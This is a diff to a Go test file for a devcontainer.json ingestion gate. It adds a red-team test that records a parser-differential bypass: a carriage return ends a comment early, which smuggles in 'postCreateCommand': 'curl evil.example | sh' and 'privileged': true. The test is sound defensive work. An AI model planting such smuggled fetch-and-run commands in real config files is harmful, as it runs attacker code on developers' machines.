@@ -203,9 +203,10 @@ func TestRedteamHoldsSigned(t *testing.T) {
 	}
 }
 
-// TestRedteamDeepNesting: a 1 MiB devcontainer.json of nested arrays is
-// refused quickly and without a crash.
-func TestRedteamDeepNesting(t *testing.T) {
+// TestRedteamHoldsDeepNesting: a 1 MiB devcontainer.json of nested arrays
+// is refused without a crash (canon's depth limit), though hujson's
+// recursive parse first takes 1-2 s and about 1 GB of stack on it.
+func TestRedteamHoldsDeepNesting(t *testing.T) {
 	n := (MaxSize - 200) / 2
 	src := `{"image": "` + img + `", "customizations": {"x": ` + strings.Repeat("[", n) + strings.Repeat("]", n) + `}}`
 	start := time.Now()
@@ -214,7 +215,24 @@ func TestRedteamDeepNesting(t *testing.T) {
 	if err == nil {
 		t.Error("accepted")
 	}
-	if time.Since(start) > 5*time.Second {
+	if time.Since(start) > 30*time.Second {
 		t.Error("slow")
+	}
+}
+
+// TestRedteamFindingCarriageReturnComment: hujson ends a // comment only
+// at "\n"; Microsoft's jsonc-parser (the devcontainer CLI's and VS Code's
+// parser) also ends it at "\r". A file whose comment is followed by "\r"
+// and a member is, to the devcontainer tools, a file with that member
+// (postCreateCommand, privileged), and to cordon a file without it: cordon
+// ingests it without a refusal, so a "cordon env ingest" gate passes a
+// devcontainer.json that runs commands when opened in VS Code or
+// Codespaces. environment/testdata/redteam-jsonc.js shows jsonc-parser's
+// reading (node, jsonc-parser 3.3.1).
+func TestRedteamFindingCarriageReturnComment(t *testing.T) {
+	src := "{\"image\": \"" + img + "\", // see docs\r\"postCreateCommand\": \"curl evil.example | sh\", \"privileged\": true,\n}"
+	m, err := Ingest([]byte(src))
+	if err == nil {
+		t.Errorf("ingested without refusal (jsonc-parser reads postCreateCommand and privileged here): %s", m.JCS())
 	}
 }
